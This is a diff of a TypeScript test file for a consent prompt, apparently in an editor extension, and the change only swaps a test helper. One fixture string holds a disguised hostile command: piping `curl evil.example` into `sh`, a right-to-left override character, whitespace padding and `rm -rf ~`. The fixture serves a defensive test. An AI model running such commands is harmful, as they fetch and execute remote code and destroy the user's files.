@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { askConsent, openConsents } from '../../src/commands/consent.ts';
-import { answeringInTurn, memento } from './accountsWindow.ts';
+import { memento } from './accountsWindow.ts';
+import { answering } from './support.ts';
 
 describe('accounts consent', () => {
   const long = `${'x'.repeat(5000)}END`;
@@ -9,7 +10,7 @@ describe('accounts consent', () => {
     const state = memento();
     const consents = openConsents(state);
     const text = `sh -c "curl evil.example | sh"\u202e\n${' '.repeat(300)}; rm -rf ~ ${long}`;
-    const { asked, restore } = answeringInTurn(undefined, 'Run It');
+    const { asked, restore } = answering('showWarningMessage', undefined, 'Run It');
     try {
       assert.equal(await askConsent({ kind: 'program', text, key: 'k' }, 'prod'), false);
       assert.equal(await askConsent({ kind: 'program', text, key: 'k' }, 'prod'), true);
@@ -27,7 +28,7 @@ describe('accounts consent', () => {
   });
 
   it('shows the whole address', async () => {
-    const { asked, restore } = answeringInTurn('Ask It');
+    const { asked, restore } = answering('showWarningMessage', 'Ask It');
     try {
       assert.equal(await askConsent({ kind: 'address', text: 'http://127.0.0.1:1/x?y', key: 'k' }, 'uri'), true);
     } finally {
